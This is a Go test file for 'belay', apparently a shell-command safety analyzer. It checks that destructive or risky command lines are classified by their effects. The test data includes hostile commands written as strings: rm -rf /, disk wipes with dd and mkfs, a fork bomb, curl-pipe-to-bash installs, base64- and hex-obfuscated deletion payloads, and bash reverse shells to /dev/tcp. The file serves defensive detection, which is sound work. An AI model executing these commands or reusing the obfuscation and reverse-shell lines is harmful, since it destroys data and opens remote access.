package shell

import (
	"fmt"
	"strings"
	"testing"
)

// summary prints an analysis compactly: one entry per invocation,
// "name kind:path+flags…", wrappers in brackets, for table tests.
func summary(a *Analysis) string {
	var parts []string
	for _, inv := range a.Invocations {
		s := inv.Name
		if len(inv.Wrappers) > 0 {
			s = "[" + strings.Join(inv.Wrappers, ">") + "]" + s
		}
		if inv.Remote != "" {
			s += "@" + inv.Remote
		}
		for _, e := range inv.Effects {
			s += " " + string(e.Kind) + ":" + e.Path
			if e.Recursive {
				s += "+R"
			}
			if e.Filtered {
				s += "+F"
			}
			if e.Dynamic {
				s += "+D"
			}
			if e.Glob {
				s += "+G"
			}
		}
		parts = append(parts, s)
	}
	if a.Incomplete {
		parts = append(parts, "(incomplete)")
	}
	if a.ParseError != nil {
		parts = append(parts, "(parse error)")
	}
	for range a.Problems {
		parts = append(parts, "(problem)")
	}
	return strings.Join(parts, "; ")
}

var testOpts = Options{Cwd: "/home/u", Env: map[string]string{"HOME": "/home/u", "TMPDIR": "/tmp"}}

func TestAnalyze(t *testing.T) {
	tests := []struct {
		line, want string
	}{
		// Quotes, escapes, braces, variables.
		{`rm -rf /`, `rm delete:/+R`},
		{`r\m -rf /`, `rm delete:/+R`},
		{`'rm' -rf /`, `rm delete:/+R`},
		{`$'\x72m' -rf /`, `rm delete:/+R`},
		{`"r"'m' -fr /tmp`, `rm delete:/tmp+R`},
		{`rm -r -f /srv`, `rm delete:/srv+R`},
		{`rm --recursive /srv`, `rm delete:/srv+R`},
		{`rm /srv/x`, `rm delete:/srv/x`},
		{`mv /usr/sbin{,.bak}`, `mv rename:/usr/sbin write:/usr/sbin.bak+R`},
		{`X=/usr; rm -rf $X`, `rm delete:/usr+R`},
		{`D=/usr/sbin; mv "$D" "$D.backup"`, `mv rename:/usr/sbin write:/usr/sbin.backup+R`},
		{`export D=/opt; rm -rf "$D"`, `rm delete:/opt+R`},
		{`rm -rf ~`, `rm delete:/home/u+R`},
		{`rm -rf $HOME/x`, `rm delete:/home/u/x+R`},
		{`rm -rf "$TMPDIR/build"`, `rm delete:/tmp/build+R`},
		{`rm -rf "$UNSET/"*`, `rm delete:/*+R+D+G`},
		{`rm -rf $UNSET`, `rm delete:+R+D`},
		{`rm -rf $(cat list)`, `cat; rm delete:+R+D`},
		{`rm -rf /var/www/*`, `rm delete:/var/www/*+R+G`},
		{`rm -rf '/var/www/*'`, `rm delete:/var/www/*+R`},
		{`rm -rf {1..100000}`, `rm delete:/home/u/{1..100000}+R+D`},
		// Branches that may not run leave their variables and cwd unknown.
		{`if [ -n "$X" ]; then D=/srv/app; fi; rm -rf "$D/"*`, `[; rm delete:/*+R+D+G`},
		{`D=/srv; if true; then D=/opt; fi; rm -rf $D`, `true; rm delete:/srv+R+D`},
		{`D=/srv; if true; then echo; fi; rm -rf $D`, `true; echo; rm delete:/srv+R`},
		{`test -d /x && cd /x; rm -rf y`, `test; cd; rm delete:y+R`}, // y is relative: dangerous only by its shape (issue #15),
		{`cd /x || exit 1; rm -rf y`, `cd; exit; rm delete:/x/y+R`},
		{`cd /x && cd y && rm -rf z`, `cd; cd; rm delete:/x/y/z+R`},
		{`case $1 in a) D=/a;; esac; rm -rf $D/x`, `rm delete:/x+R+D`},
		// Working directory.
		{`cd /usr && mv sbin sbin.backup`, `cd; mv rename:/usr/sbin write:/usr/sbin.backup+R`},
		{`cd /usr; cd ..; rm -rf etc`, `cd; cd; rm delete:/etc+R`},
		{`cd; rm -rf x`, `cd; rm delete:/home/u/x+R`},
		{`cd $(mktemp -d) && rm -rf x`, `mktemp; cd; rm delete:/tmp/tmp.…/x+R`}, // mktemp -d prints a new directory under /tmp,
		{`(cd /usr); rm -rf sbin`, `cd; rm delete:/home/u/sbin+R`},
		{`rm -rf ./build`, `rm delete:/home/u/build+R`},
		{`rm -rf /usr/../etc/`, `rm delete:/etc+R`},
		// Redirections.
		{`echo x > /etc/passwd`, `echo write:/etc/passwd`},
		{`cat /dev/urandom > /dev/sda`, `cat write:/dev/sda`},
		{`echo x >> /etc/fstab`, `echo append:/etc/fstab`},
		{`echo x 2>&1 >/dev/null`, `echo write:/dev/null`},
		{`{ echo a; echo b; } > /etc/hosts`, ` write:/etc/hosts; echo; echo`},
		{`> /etc/motd`, ` write:/etc/motd`},
		// Wrappers.
		{`sudo rm -rf /x`, `[sudo]rm delete:/x+R`},
		{`sudo -u www-data -E rm -rf /x`, `[sudo -u www-data]rm delete:/x+R`},
		{`sudo -i`, ``},
		{`sudo X=1 rm -rf /x`, `[sudo]rm delete:/x+R`},
		{`sudo -c default -a pam rm -rf /x`, `[sudo]rm delete:/x+R`},
		{`sudo -l rm -rf /x`, ``},
		{`sudo -e /etc/sudoers`, `[sudo]sudoedit edit:/etc/sudoers`},
		{`doas rm -rf /x`, `[doas]rm delete:/x+R`},
		{`su -c 'rm -rf /x' root`, `[su -c]rm delete:/x+R`},
		{`su - root -c "rm -rf /x"`, `[su -c]rm delete:/x+R`},
		{`env -i PATH=/bin rm -rf /x`, `[env]rm delete:/x+R`},
		{`env -C /usr rm -rf sbin`, `[env]rm delete:/usr/sbin+R`},
		{`nice -n 10 ionice -c3 nohup rm -rf /x`, `[nice>ionice>nohup]rm delete:/x+R`},
		{`timeout -s KILL 10 rm -rf /x`, `[timeout]rm delete:/x+R`},
		{`time rm -rf /x`, `rm delete:/x+R`},
		{`command rm -rf /x`, `[command]rm delete:/x+R`},
		{`command -v rm`, `command`},
		{`builtin cd /x`, `[builtin]cd`},
		{`exec rm -rf /x`, `[exec]rm delete:/x+R`},
		{`watch rm -rf /x`, `[watch]rm delete:/x+R`},
		{`watch -n 5 -x rm -rf /x`, `[watch]rm delete:/x+R`},
		// ls DIR prints DIR's entries: judged as them (piped.go).
		{`ls / | xargs rm -rf`, `ls; [xargs]rm delete:/*+R+G`},
		{`echo /x | xargs rm -rf`, `echo; [xargs]rm delete:/x+R`},
		{`ls | xargs -I{} rm -rf /srv/{}`, `ls; [xargs]rm delete:/srv+R+D`},
		// A lister's output through xargs: paths under its start, as
		// find -delete reaches them; a filter keeps them under it.
		{`find /srv/backups -type f -print0 | xargs -0 rm -f`, `find; [xargs]rm delete:/srv/backups+R`},
		{`find /var/lib/mysql -name '*.ibd' | xargs rm -f`, `find; [xargs]rm delete:/var/lib/mysql+F`},
		{`find /srv -type f | grep -v keep | xargs rm`, `find; grep; [xargs]rm delete:/srv+F`},
		{`find /etc -type f | xargs -I{} rm -rf {}`, `find; [xargs]rm delete:/etc+R`},
		{`find /srv -type f | xargs -I{} mv {} /x/{}.old`, `find; [xargs]mv rename:/srv+R write:/x/.old+R+D`},
		{`find /srv -exec echo {} + | xargs rm`, `find; [find -exec]echo; [xargs]rm delete:+D`},
		{`sudo find /data -mtime +7 | sort | head -n 50 | sudo xargs rm`, `[sudo]find; sort; head; [sudo>xargs]rm delete:/data+F`},
		{`ls -t /backups/*.gz | tail -n +8 | xargs rm -f`, `ls; tail; [xargs]rm delete:/backups+F`},
		{`locate core | xargs rm -f`, `locate; [xargs]rm delete:/+F`},
		{`grep -rl x /etc/nginx | xargs sed -i s/a/b/`, `grep; [xargs]sed edit:/etc/nginx+F`},
		{`grep -l x *.log | xargs rm`, `grep; [xargs]rm delete:/home/u+F`},
		{`grep -l x | xargs rm`, `grep; [xargs]rm delete:+D`},
		{`cat list | grep x | xargs rm`, `cat; grep; [xargs]rm delete:+D`},
		{`find /srv | awk '{print $1}' | xargs rm -rf`, `find; awk; [xargs]rm delete:+R+D`},
		{`find / -delete`, `find delete:/+R`},
		{`find . -name '*.o' -delete`, `find delete:/home/u+F`},
		{`find /var/log -name '*.gz' -mtime +30 -delete`, `find delete:/var/log+F`},
		{`find /var/log -type f -delete`, `find delete:/var/log+R`},
		{`find /srv -exec rm -rf {} \;`, `find; [find -exec]rm delete:/srv+R`},
		{`find /srv -name x -execdir rm -rf {} +`, `find; [find -exec]rm delete:/srv+F`},
		{`find / -type f -exec rm {} \;`, `find; [find -exec]rm delete:/+R`},
		{`find / -mtime +0 -delete`, `find delete:/+F`},
		{`find . -user alice -exec rm -f {} +`, `find; [find -exec]rm delete:/home/u+F`},
		{`find . -empty -delete`, `find delete:/home/u+F`},
		{`find /etc -exec mv {} {}.old \;`, `find; [find -exec]mv rename:/etc+R write:/etc/*.old+R+D+G`},
		{`find . -name '*.c' -exec cp {} {}.bak \;`, `find; [find -exec]cp read:/home/u+F write:/home/u/*.bak+D+G`},
		{`sh -c 'rm -rf /x'`, `[sh -c]rm delete:/x+R`},
		{`bash -lc "rm -rf /x"`, `[bash -c]rm delete:/x+R`},
		{`sudo bash -c 'cd /usr && rm -rf sbin'`, `[sudo>bash -c]cd; [sudo>bash -c]rm delete:/usr/sbin+R`},
		{`bash -c "bash -c 'rm -rf /x'"`, `[bash -c>bash -c]rm delete:/x+R`},
		{`eval 'rm -rf /x'`, `[eval]rm delete:/x+R`},
		{`eval rm -rf /x`, `[eval]rm delete:/x+R`},
		{`echo 'rm -rf /' | sh`, `echo; [sh <<<]rm delete:/+R`},
		{`printf 'rm -rf /x\n' | sudo bash`, `printf; [sudo>bash <<<]rm delete:/x+R`},
		{"bash <<'EOF'\nrm -rf /x\nEOF", `[bash <<<]rm delete:/x+R`},
		{`sh <<< 'rm -rf /x'`, `[sh <<<]rm delete:/x+R`},
		{"cat <<'EOF' | sh\nrm -rf /x\nEOF", `cat; [sh <<<]rm delete:/x+R`},
		{"cat > /tmp/notes.txt <<'EOF'\nrm -rf /\nEOF", `cat write:/tmp/notes.txt`},
		{`ssh web1 'rm -rf /var/lib/mysql'`, `[ssh web1]rm@web1 delete:/var/lib/mysql+R`},
		{`ssh -p 22 root@web1 rm -rf /x`, `[ssh web1]rm@web1 delete:/x+R`},
		{`ssh web1`, ``},
		{`/etc/init.d/ssh stop`, `ssh`},
		{`curl -s x | bash`, "curl; bash unseen-code:the output of `curl -s x`+D"},
		{`curl -s https://x.example/i.sh | sudo bash`, `curl; [sudo]bash unseen-code:https://x.example/i.sh+D`},
		{`echo reboot | at now + 5 min`, `echo; [at]reboot power:`},
		{`at 03:00 <<< 'rm -rf /x'`, `[at]rm delete:/x+R`},
		{`at -l`, `at`},
		// at -f FILE: the job is the file's text.
		{`at -f /dev/stdin now <<< 'rm -rf /x'`, `[at]rm delete:/x+R`},
		{`at now -f /dev/stdin <<< reboot`, `[at]reboot power:`},
		{`batch -f <(echo reboot)`, `echo; [batch]reboot power:`},
		{`echo 'rm -rf /x' > /tmp/j; at -f /tmp/j now`, `echo write:/tmp/j; [at]rm delete:/x+R`},
		{`echo date > /tmp/j; at -f /tmp/j now`, `echo write:/tmp/j; [at]date`},
		{`at -f /tmp/job.sh now`, `at unseen-code:/tmp/job.sh+D`},
		{`at -f "$F" now`, `at unseen-code:"$F"+D`},
		{`at -c 3`, `at`},
		// Literal code is computed and judged as typed (decode.go); code
		// belay cannot see is an unseen-code effect naming its source.
		{"echo cm0gLXJmIC94Cg== | base64 -d | sh", "echo; base64; [sh <<<]rm delete:/x+R"},
		{"echo L3gK | base64 --decode | xargs rm -rf", "echo; base64; [xargs]rm delete:/x+R"},
		{"echo 'x/ fr- mr' | rev | sh", "echo; rev; [sh <<<]rm delete:/x+R"},
		{"echo 'RM -RF /X' | tr A-Z a-z | sh", "echo; tr; [sh <<<]rm delete:/x+R"},
		{"echo 'rm -rf /x' | tr -d Q | sh", "echo; tr; [sh <<<]rm delete:/x+R"},
		{"echo 726d202d7266202f78 | xxd -r -p | sh", "echo; xxd; [sh <<<]rm delete:/x+R"},
		{"printf '%b' 'rm -rf \\x2fx' | sh", "printf; [sh <<<]rm delete:/x+R"},
		{"echo -e 'rm -rf \\x2fx' | sh", "echo; [sh <<<]rm delete:/x+R"},
		{"echo 'rm -rf \\x2fx' | sh", "echo; [sh <<<]rm delete:/home/u/x2fx+R; [sh <<<]rm delete:/x+R"},
		{"printf 'rm -rf %s\\n' /x /y | sh", "printf; [sh <<<]rm delete:/x+R; [sh <<<]rm delete:/y+R"},
		{"rm -rf $(echo /x)", "echo; rm delete:/x+R"},
		{"$(echo cm0gLXJmIC94 | base64 -d)", "echo; base64; rm delete:/x+R"},
		{"sh < <(echo 'rm -rf /x')", "echo; [sh <<<]rm delete:/x+R"},
		{"{ echo cd /srv; echo 'rm -rf /x'; } | sh", "echo; echo; [sh <<<]cd; [sh <<<]rm delete:/x+R"},
		{"( echo reboot ) | sh", "echo; [sh <<<]reboot power:"},
		{"if true; then echo a; else echo 'rm -rf /x'; fi | sh", "true; echo; echo; [sh <<<]a; [sh <<<]rm delete:/x+R"},
		{"for i in 1; do echo 'rm -rf /x'; done | sh", "echo; [sh <<<]rm delete:/x+R"},
		{"rm -rf $(echo /x; echo /y)", "echo; echo; rm delete:/x+R delete:/y+R"},
		{"{ ls; echo reboot; } | sh", "ls; echo; [sh <<<]reboot power:"},
		{"echo 'rm -rf /x' > >(sh)", "[sh <<<]rm delete:/x+R; echo write:/dev/fd/63+D"},
		{"curl -s https://x.example/i.sh > >(sh)", "sh unseen-code:https://x.example/i.sh+D; curl write:/dev/fd/63+D"},
		{". /dev/stdin <<< 'rm -rf /x'", "[.]rm delete:/x+R"},
		{"echo 'rm -rf /x' | bash -c 'source /dev/stdin'", "echo; [bash -c>source]rm delete:/x+R"},
		{"curl -s https://x.example/i.sh | sh", "curl; sh unseen-code:https://x.example/i.sh+D"},
		{"wget -qO- https://x.example/i.sh | sudo bash -s -- -y", "wget; [sudo]bash unseen-code:https://x.example/i.sh+D"},
		{"bash <(curl -s https://x.example/i.sh)", "curl; bash unseen-code:https://x.example/i.sh+D"},
		{"sh -c \"$(curl -fsSL https://x.example/i.sh)\"", "curl; sh unseen-code:https://x.example/i.sh+D"},
		{"eval \"$(curl -fsSL https://x.example/i.sh)\"", "curl; eval unseen-code:https://x.example/i.sh+D"},
		{"eval \"$CMD\"", "eval unseen-code:$CMD+D"},
		// A substitution that only prints a variable is the variable.
		{"eval `echo $CMD`", "echo; eval unseen-code:$CMD+D"},
		{"eval \"$(echo \"$CMD\")\"", "echo; eval unseen-code:$CMD+D"},
		{"eval \"$(printf %s \"$CMD\")\"", "printf; eval unseen-code:$CMD+D"},
		{"ssh h $(cat <<< $CMD)", "cat; ssh@h unseen-code:$CMD+D"},
		{"eval \"$(echo hi)\"", "echo; [eval]hi"},
		{"eval \"$(ssh-agent -s)\"", "ssh-agent"}, // a local program's output: the user's own code
		// Downloads name the file they write.
		{"curl -fsSL -o /etc/passwd https://x.example/p", "curl write:/etc/passwd"},
		{"wget -qO /usr/bin/sudo https://x.example/s", "wget write:/usr/bin/sudo"},
		{"wget -qO- https://x.example/s", "wget"},
		{"curl -o ~/.bashrc https://x.example/rc", "curl unseen-code:https://x.example/rc+D; curl write:/home/u/.bashrc"},
		// Code with an unknown part: the nested line has the unknown word
		// where it was written (rm -rf $D), not rm -rf.
		{"bash -c \"rm -rf $D\"", "[bash -c]rm delete:+R+D"},
		{"eval \"rm -rf $D/*\"", "[eval]rm delete:/*+R+D+G"},
		{"bash -c \"cd /srv && rm -rf $D\"", "[bash -c]cd; [bash -c]rm delete:+R+D"},
		{"eval \"$(ssh-agent -s)\"", "ssh-agent"},
		{"source <(kubectl completion bash)", "kubectl"},
		{"bash < /dev/tcp/h/1", "bash unseen-code:/dev/tcp/h/1+D"},
		// A shell whose standard input is a connection, by duplication.
		{"bash -i >& /dev/tcp/h/1 0>&1", "bash unseen-code:/dev/tcp/h/1+D;  write:/dev/tcp/h/1"},
		{"sh -i 5<>/dev/tcp/h/1 0<&5 1>&5", "sh unseen-code:/dev/tcp/h/1+D;  write:/dev/tcp/h/1"},
		{"bash -i > /dev/tcp/$H/1 0>&1", "bash unseen-code:/dev/tcp/$H/1+D;  write:/dev/tcp/1+D"},
		{"exec 5<>/dev/tcp/h/1; bash <&5", "exec write:/dev/tcp/h/1; bash unseen-code:/dev/tcp/h/1+D"},
		{"bash -i >& /tmp/log 0>&1", "bash write:/tmp/log"},
		{"bash x.sh > /dev/tcp/h/1", "bash write:/dev/tcp/h/1"},
		{"bash -i 0>&1 >& /dev/tcp/h/1", "bash write:/dev/tcp/h/1"},
		{"echo \"$P\" | base64 -d | sh", "echo; base64; sh unseen-code:the output of `echo \"$P\" | base64 -d`+D"},
		{"ls | sed 's/^/rm /' | sh", "ls; sed; sh unseen-code:the output of `ls | sed 's/^/rm /'`+D"},
		{"cat x.sh | sh", "cat; sh"},
		{"bash x.sh", "bash"},
		{"curl -s https://x.example/i.sh | bash -n", "curl; bash"},
		{"printf '%0999999999d' 0 | sh", "printf; sh unseen-code:the output of `printf '%0999999999d' 0`+D"},
		{"echo \"cd $D && make\" | sh", "echo; [sh <<<]cd; [sh <<<]make"},
		{"ssh h 'curl -s https://x.example | sh'", "[ssh h]curl@h; [ssh h]sh@h unseen-code:https://x.example+D"},
		// Branches, functions, substitutions.
		{`false && rm -rf /x`, `false; rm delete:/x+R`},
		{`true || rm -rf /x`, `true; rm delete:/x+R`},
		{`if true; then :; else rm -rf /x; fi`, `true; :; rm delete:/x+R`},
		{`while false; do rm -rf /x; done`, `false; rm delete:/x+R`},
		{`for d in /usr /etc; do rm -rf $d; done`, `rm delete:/usr+R; rm delete:/etc+R`},
		{`for f in *; do rm -rf $f; done`, `rm delete:/home/u/*+R+G`}, // one match of * at a time: judged as rm -rf * (issue #15),
		{`case x in x) rm -rf /x;; esac`, `rm delete:/x+R`},
		{`f() { rm -rf /x; }`, `rm delete:/x+R`},
		{`echo $(rm -rf /x)`, `rm delete:/x+R; echo`},
		{"echo `rm -rf /x`", `rm delete:/x+R; echo`},
		{`diff <(rm -rf /x) y`, `rm delete:/x+R; diff`},
		{`[[ $(rm -rf /x) ]]`, `rm delete:/x+R`},
		{`:(){ :|:& };:`, `: fork-bomb:; : fork-bomb:; : fork-bomb:`},
		{`! rm -rf /x &`, `rm delete:/x+R`},
		// Command knowledge.
		{`cp a /etc/passwd`, `cp read:/home/u/a write:/etc/passwd`},
		{`cp -t /etc a b`, `cp read:/home/u/a read:/home/u/b write:/etc`},
		{`install -m 644 a /etc/x`, `install read:/home/u/a write:/etc/x`},
		{`install -d /etc/x`, `install`},
		{`rsync -a --delete empty/ /srv/`, `rsync read:/home/u/empty+R write:/srv+R delete:/srv+R`},
		{`rsync -a x host:/srv/`, `rsync`},
		{`ln -sfn /usr/bin /usr/sbin`, `ln link-over:/usr/sbin`},
		{`ln a b`, `ln`},
		{`dd if=/dev/zero of=/dev/sda bs=1M`, `dd read:/dev/zero write:/dev/sda`},
		{`tee /etc/x`, `tee write:/etc/x`},
		{`tee -a /etc/x`, `tee append:/etc/x`},
		{`truncate -s 0 /var/log/syslog`, `truncate write:/var/log/syslog`},
		{`shred -u /x`, `shred write:/x delete:/x`},
		{`mkfs.ext4 /dev/sdb1`, `mkfs.ext4 format:/dev/sdb1`},
		{`mkfs -t ext4 /dev/sdb1`, `mkfs format:/dev/sdb1`},
		{`wipefs -a /dev/sda`, `wipefs format:/dev/sda`},
		{`wipefs /dev/sda`, `wipefs`},
		{`fdisk -l /dev/sda`, `fdisk`},
		{`fdisk /dev/sda`, `fdisk format:/dev/sda`},
		{`parted /dev/sda print`, `parted`},
		{`parted -s /dev/sda mklabel gpt`, `parted format:/dev/sda`},
		{`chmod -R 777 /`, `chmod chmod:/+R`},
		{`chmod 644 a b`, `chmod chmod:/home/u/a chmod:/home/u/b`},
		{`chown -R a:b /srv`, `chown chown:/srv+R`},
		{`qemu-img create -f qcow2 /var/lib/x.qcow2 10G`, `qemu-img write:/var/lib/x.qcow2`},
		{`qemu-img convert -O qcow2 a.raw /var/lib/x.qcow2`, `qemu-img write:/var/lib/x.qcow2`},
		{`qemu-img info /var/lib/x.qcow2`, `qemu-img`},
		// Incomplete and broken lines.
		{`rm -rf / &&`, `rm delete:/+R; (incomplete)`},
		{`echo 'unterminated`, `echo; (incomplete)`},
		{"for x in a; do", `(incomplete)`},
		{`echo a )`, `(parse error)`},
	}
	for _, tt := range tests {
		got := summary(Analyze(tt.line, testOpts))
		if got != tt.want {
			t.Errorf("Analyze(%q)\n got: %s\nwant: %s", tt.line, got, tt.want)
		}
	}
}

func TestAnalyzeArgv(t *testing.T) {
	tests := []struct {
		argv []string
		want string
	}{
		{[]string{"rm", "-rf", "/x"}, `rm delete:/x+R`},
		{[]string{"rm", "-rf", "$HOME"}, `rm delete:/home/u/$HOME+R`},
		{[]string{"bash", "-c", "rm -rf /x"}, `[bash -c]rm delete:/x+R`},
		{[]string{"sudo", "mv", "/usr/sbin", "/usr/sbin.bak"}, `[sudo]mv rename:/usr/sbin write:/usr/sbin.bak+R`},
		{[]string{"echo", "rm -rf /"}, `echo`},
	}
	for _, tt := range tests {
		got := summary(AnalyzeArgv(tt.argv, testOpts))
		if got != tt.want {
			t.Errorf("AnalyzeArgv(%q)\n got: %s\nwant: %s", tt.argv, got, tt.want)
		}
	}
}

// TestDialects checks the dialects other than bash; fish has its own
// table (TestFish).
func TestDialects(t *testing.T) {
	tests := []struct {
		d          Dialect
		line, want string
	}{
		{Zsh, `rm -rf /x`, `rm delete:/x+R`},
		{POSIX, `rm -rf /x`, `rm delete:/x+R`},
	}
	for _, tt := range tests {
		o := testOpts
		o.Dialect = tt.d
		got := summary(Analyze(tt.line, o))
		if got != tt.want {
			t.Errorf("Analyze(%s, %q)\n got: %s\nwant: %s", tt.d, tt.line, got, tt.want)
		}
	}
}

// TestUnknownCwd checks that with no working directory known (belay scan),
// a word is dynamic only when it reads something unknown, $PWD included.
func TestUnknownCwd(t *testing.T) {
	tests := []struct {
		line, want string
	}{
		{`D=/tmp/app; rm -rf "$D/cache"`, `rm delete:/tmp/app/cache+R`},
		{`D=/tmp/app; cd "$D"; rm -rf "$D/cache"`, `cd; rm delete:/tmp/app/cache+R`},
		{`rm -rf "$PWD/"*`, `rm delete:/*+R+D+G`},
		{`D=$PWD; rm -rf "$D/x"`, `rm delete:/x+R+D`},
		{`cd /srv && rm -rf "$PWD/x"`, `cd; rm delete:/srv/x+R`},
	}
	for _, tt := range tests {
		if got := summary(Analyze(tt.line, Options{})); got != tt.want {
			t.Errorf("Analyze(%q) with no cwd = %q, want %q", tt.line, got, tt.want)
		}
	}
}

// TestAcks checks that BELAY_ACK reaches the command it prefixes and what
// that command runs, and nothing else on the line.
func TestAcks(t *testing.T) {
	tests := []struct {
		line, want string // want: per invocation, name=acks
	}{
		{`BELAY_ACK=system.reboot,x.y reboot; env BELAY_ACK=a.b ls`, `reboot=[system.reboot x.y]; ls=[a.b]`},
		{`BELAY_ACK='a b' rm -rf /x`, `rm=[a b]`},
		{`BELAY_ACK=x sudo rm -rf /x`, `rm=[x]`},
		{`sudo BELAY_ACK=x rm -rf /x`, `rm=[x]`},
		{`sudo -u x BELAY_ACK=c.d ls`, `ls=[c.d]`},
		{`BELAY_ACK=x bash -c 'true; rm -rf /x'`, `true=[x]; rm=[x]`},
		{`env BELAY_ACK=x nice rm -rf /x`, `rm=[x]`},
		{`BELAY_ACK=x true; rm -rf /x`, `true=[x]; rm=[]`},
		{`BELAY_ACK=x true && rm -rf /x`, `true=[x]; rm=[]`},
		{`BELAY_ACK=x true | rm -rf /x`, `true=[x]; rm=[]`},
		{`(BELAY_ACK=x true); rm -rf /x`, `true=[x]; rm=[]`},
		{`if false; then BELAY_ACK=x true; fi; rm -rf /x`, `false=[]; true=[x]; rm=[]`},
		{`export BELAY_ACK=x; rm -rf /x`, `rm=[]`},
		{`BELAY_ACK=x; rm -rf /x`, `rm=[]`},
		{`BELAY_ACK=x echo $(rm -rf /x)`, `rm=[]; echo=[x]`},
	}
	for _, tt := range tests {
		a := Analyze(tt.line, testOpts)
		var parts []string
		for _, inv := range a.Invocations {
			ids := []string{}
			for _, k := range inv.Acks {
				ids = append(ids, k.ID)
			}
			parts = append(parts, inv.Name+"="+fmt.Sprint(ids))
		}
		if got := strings.Join(parts, "; "); got != tt.want {
			t.Errorf("Analyze(%q) acks\n got: %s\nwant: %s", tt.line, got, tt.want)
		}
	}
	a := Analyze("true\n  BELAY_ACK=x rm -rf /x", testOpts)
	if got := a.Invocations[1].Acks; len(got) != 1 || got[0].Pos != (Pos{Line: 2, Col: 3}) || !a.Invocations[1].Acked("x") {
		t.Errorf("ack on line 2: %+v", got)
	}
}

func TestLimits(t *testing.T) {
	// eval eval … rm: each eval is one more nested line.
	deep := strings.Repeat("eval ", 70) + "rm -rf /x"
	if a := Analyze(deep, testOpts); len(a.Problems) == 0 {
		t.Errorf("70 levels of eval: no problem reported")
	}
	// bash -c nested 64 times through sh -c strings that need no quoting.
	deep = strings.Repeat("sh -c ", 70) + "true"
	Analyze(deep, testOpts)
	huge := strings.Repeat("a", DefaultMaxBytes+1)
	if a := Analyze(huge, testOpts); len(a.Problems) == 0 {
		t.Errorf("a line over the size limit: no problem reported")
	}
	nested := strings.Repeat("$(", 10000) + strings.Repeat(")", 10000)
	if a := Analyze("echo "+nested, testOpts); len(a.Problems) == 0 {
		t.Errorf("10,000 nested $(: no problem reported")
	}
}

func TestPowersOff(t *testing.T) {
	yes := []string{"reboot", "/sbin/reboot", "shutdown -r now", "systemctl reboot", "systemctl --force poweroff", "init 6", "telinit 0", "sudo halt", "systemctl start reboot.target", "test -x /sbin/reboot && /sbin/reboot"}
	no := []string{"shutdown -c", "echo reboot", "systemctl status", "init q", "grep reboot /etc/crontab"}
	for _, l := range yes {
		if !Analyze(l, testOpts).Reboots() {
			t.Errorf("%q: want reboot", l)
		}
	}
	for _, l := range no {
		if Analyze(l, testOpts).Reboots() {
			t.Errorf("%q: want no reboot", l)
		}
	}
}
